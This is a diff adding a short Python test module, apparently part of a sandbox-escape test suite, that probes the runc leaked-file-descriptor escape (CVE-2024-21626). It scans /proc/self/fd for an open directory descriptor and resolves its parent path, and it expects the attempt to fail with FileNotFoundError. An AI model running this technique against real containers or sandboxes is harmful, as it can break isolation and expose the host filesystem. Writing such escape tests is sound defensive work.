@@ -1,0 +1,19 @@
+"""Leave by a folder that somebody left open (CVE-2024-21626)."""
+
+import os
+import stat
+from pathlib import Path
+from typing import Any
+
+EXPECTED = "FileNotFoundError"
+RUNS_OUTSIDE = False
+
+
+def attack(target: dict[str, Any]) -> object:
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISDIR(os.fstat(int(name)).st_mode):
+                return Path(f"/proc/self/fd/{name}/..").resolve().as_posix()
+        except OSError:
+            continue  # the descriptor of the listing itself
+    raise FileNotFoundError("no folder is open")
